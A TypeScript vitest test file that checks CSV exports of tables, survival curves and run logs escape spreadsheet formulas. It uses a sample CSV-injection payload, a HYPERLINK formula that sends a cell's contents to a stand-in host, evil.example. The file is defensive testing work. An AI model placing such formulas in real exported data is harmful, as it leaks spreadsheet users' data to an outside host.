import type { DescribedTable, SurvivalCurves } from '@tessera/contract'
import { expect, test } from 'vitest'
import { curvesCsv } from './curves-csv.ts'
import { csvOf } from './described-csv.ts'
import { logCsv } from './log-lines.ts'

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
const t = (name: string) => name
const category = { kind: 'category' as const, name: EVIL, categories: [{ name: EVIL, count: 9 }], other: 0, missing: 0 }
const table: DescribedTable = {
  rows: 9,
  columns: [category],
  parties: [{ partyId: 'a', rows: 9, columns: [category] }],
}
const curve = {
  rows: 9,
  events: 9,
  median: { value: 1, low: 1 },
  points: [{ time: 1, survival: 1, low: 1, high: 1, atRisk: 9 }],
}
const curves = {
  event: EVIL,
  time: EVIL,
  times: [1],
  all: curve,
  columns: [{ name: EVIL, kind: 'category', groups: [{ ...curve, name: EVIL }] }],
} as unknown as SurvivalCurves
const line = { seq: 1, time: new Date(0), from: 'a', level: 'info' as const, text: EVIL }

test.each([
  ['a table of columns', () => csvOf(table, t as never, () => EVIL)],
  ['survival curves', () => curvesCsv(curves, t as never)],
  ["a run's log", () => logCsv([line], ['text'], () => [EVIL, 'info'])],
])(
  'escapes foreign text in the file of %s, so that no spreadsheet runs it',
  { meta: { claim: 'hardening.spreadsheet-formula' } },
  (_what, make) => {
    const text = make()
    expect(text.match(/HYPERLINK/g)?.length).toBeGreaterThan(1)
    // A cell begins at the start of a line or after a comma. It may begin with a quotation mark.
    expect(text.replaceAll('\ufeff', '').match(/(?<=^|\r\n|,)"?=HYPER/g)).toBeNull()
    expect(text).toContain(`"'=HYPERLINK`)
  },
)
